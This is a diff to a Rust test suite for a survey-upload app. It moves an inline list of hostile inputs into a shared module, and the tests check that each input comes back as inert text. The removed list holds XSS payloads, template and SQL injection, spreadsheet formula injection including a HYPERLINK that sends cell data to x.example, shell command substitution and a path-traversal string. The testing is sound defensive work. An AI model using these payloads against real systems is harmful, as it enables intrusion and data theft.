@@ -5,6 +5,7 @@ use std::fmt::Write;
 use super::{documents, file, import};
 use crate::support::app::App;
 use crate::support::database::{Database, on_both_databases};
+use crate::support::hostile::STRINGS;
 use crate::support::process::hailong;
 use crate::support::submission::commune;
 
@@ -13,77 +14,13 @@ on_both_databases![
     of_ten_thousand_rows_the_good_go_in_and_the_bad_come_back,
 ];
 
-/// What has run in somebody's browser, spreadsheet or shell.
-pub(crate) const SCRIPTS: [&str; 60] = [
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=//x.example/x.js></SCRIPT>",
-    "<img src=x onerror=alert(1)>",
-    "<svg onload=alert(1)>",
-    "<svg/onload=alert(1)>",
-    "<body onload=alert(1)>",
-    "<iframe src=javascript:alert(1)>",
-    "<iframe srcdoc=\"<script>alert(1)</script>\">",
-    "<a href=\"javascript:alert(1)\">x</a>",
-    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
-    "<input autofocus onfocus=alert(1)>",
-    "<details open ontoggle=alert(1)>",
-    "<video><source onerror=alert(1)>",
-    "<audio src=x onerror=alert(1)>",
-    "<marquee onstart=alert(1)>",
-    "<math href=\"javascript:alert(1)\">x</math>",
-    "<object data=\"javascript:alert(1)\">",
-    "<embed src=\"javascript:alert(1)\">",
-    "<form action=javascript:alert(1)><input type=submit>",
-    "<button formaction=javascript:alert(1)>x</button>",
-    "<link rel=stylesheet href=//x.example/x.css>",
-    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
-    "<base href=//x.example/>",
-    "<style>@import '//x.example/x.css';</style>",
-    "<div style=\"background:url(javascript:alert(1))\">",
-    "<template><script>alert(1)</script></template>",
-    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
-    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "\"><script>alert(1)</script>",
-    "'><script>alert(1)</script>",
-    "</title><script>alert(1)</script>",
-    "</textarea><script>alert(1)</script>",
-    "</style><script>alert(1)</script>",
-    "</script><script>alert(1)</script>",
-    "\" onmouseover=\"alert(1)",
-    "' onmouseover='alert(1)",
-    "` onmouseover=`alert(1)",
-    "javascript:alert(1)",
-    "JaVaScRiPt:alert(1)",
-    "java&Tab;script:alert(1)",
-    "vbscript:msgbox(1)",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#60;script&#62;alert(1)&#60;/script&#62;",
-    "%3Cscript%3Ealert(1)%3C/script%3E",
-    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
-    "＜script＞alert(1)＜/script＞",
-    "{{constructor.constructor('alert(1)')()}}",
-    "${alert(1)}",
-    "<%= 7 * 7 %>",
-    "#{7*7}",
-    "'; drop table responses; --",
-    "1' or '1'='1",
-    "=cmd|' /C calc'!A0",
-    "+1+cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "=HYPERLINK(\"//x.example/?x=\"&A1,\"x\")",
-    "$(touch x); `touch x`",
-    "../../../../etc/passwd",
-];
-
 fn quoted(cell: &str) -> String {
     format!("\"{}\"", cell.replace('"', "\"\""))
 }
 
 async fn sixty_scripts_come_out_as_the_text_they_are(database: Database) {
     let mut content = String::from("answered_at,A1,A2,A3,A4,A5,comment,service_field\n");
-    for script in SCRIPTS {
+    for script in STRINGS {
         let cell = quoted(script);
         writeln!(content, "2026-09-05,5,5,5,5,5,{cell},{cell}").unwrap();
         // And where none may stand: the row comes back.
@@ -101,7 +38,7 @@ async fn sixty_scripts_come_out_as_the_text_they_are(database: Database) {
     );
     let said: Vec<serde_json::Value> =
         documents(database).await.iter().map(|d| serde_json::from_str(d).unwrap()).collect();
-    for (script, document) in SCRIPTS.iter().zip(&said) {
+    for (script, document) in STRINGS.iter().zip(&said) {
         assert_eq!(document["comment"], *script);
         assert_eq!(document["service_field"], *script);
     }
@@ -115,7 +52,7 @@ async fn sixty_scripts_come_out_as_the_text_they_are(database: Database) {
             .records()
             .flat_map(|row| row.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
             .collect();
-        for script in SCRIPTS {
+        for script in STRINGS {
             let is_it = |cell: &String| cell == script || cell.strip_prefix('\'') == Some(script);
             assert!(cells.iter().any(is_it), "{script} is not in {written}");
         }
@@ -124,7 +61,7 @@ async fn sixty_scripts_come_out_as_the_text_they_are(database: Database) {
     }
     for page in [format!("/c/{}", commune()), format!("/c/{}?period=2026-09", commune())] {
         let html = app.get(&page).await.text().await.unwrap();
-        for script in SCRIPTS.iter().filter(|script| script.len() > 20) {
+        for script in STRINGS.iter().filter(|script| script.len() > 20) {
             assert!(!html.contains(script), "{script} is on {page}");
         }
     }
